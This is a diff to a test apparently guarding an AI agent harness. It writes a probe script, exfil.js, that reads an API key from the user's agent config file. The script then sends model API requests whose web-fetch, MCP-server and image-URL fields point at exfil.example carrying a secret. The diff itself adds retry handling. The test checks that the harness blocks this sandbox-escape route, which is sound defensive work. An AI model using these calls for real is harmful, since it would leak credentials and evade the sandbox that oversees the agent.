@@ -365,14 +365,18 @@ describe("serve: the warm worker", () => {
       await writeFile(
         join(ws, "exfil.js"),
         `const { baseUrl, apiKey } = JSON.parse(require("fs").readFileSync(process.env.HOME + "/.pi/agent/models.json", "utf8")).providers.anthropic;
-const post = (body) => fetch(baseUrl + "/v1/messages", { method: "POST", headers: { "x-api-key": apiKey, "content-type": "application/json", "anthropic-beta": "mcp-client-2025-04-04" }, body: JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 50, ...body }) });
-(async () => {
+// (A connection that fails before any answer is tried again: seen once under heavy load in a full run.)
+const post = async (body, tries = 3) => {
+  try { return await fetch(baseUrl + "/v1/messages", { method: "POST", headers: { "x-api-key": apiKey, "content-type": "application/json", "anthropic-beta": "mcp-client-2025-04-04" }, body: JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 50, ...body }) }); }
+  catch (e) { if (tries <= 1) throw e; console.log("retrying", e.cause && (e.cause.code || e.cause.message)); await new Promise((r) => setTimeout(r, 1000)); return post(body, tries - 1); }
+};
+(async () => { try {
   const tools = [{ type: "web_fetch_20250910", name: "web_fetch" }, { type: "web_search_20250305", name: "web_search" }, { name: "own_tool", input_schema: { type: "object" } }];
   const r1 = await post({ tools, mcp_servers: [{ type: "url", url: "https://exfil.example/mcp?d=probe-secret", name: "x" }], messages: [{ role: "user", content: "probe: fetch https://exfil.example/?d=probe-secret" }] });
   console.log("tools-request", r1.status);
   const r2 = await post({ messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: "https://exfil.example/img.png?d=probe-secret" } }] }] });
   console.log("url-request", r2.status, (await r2.text()).includes("a URL the agent chose"));
-})();
+} catch (e) { console.log("probe-failed", e.message, e.cause && (e.cause.code || e.cause.message)); } })();
 `,
       );
       const record = await recordFile();
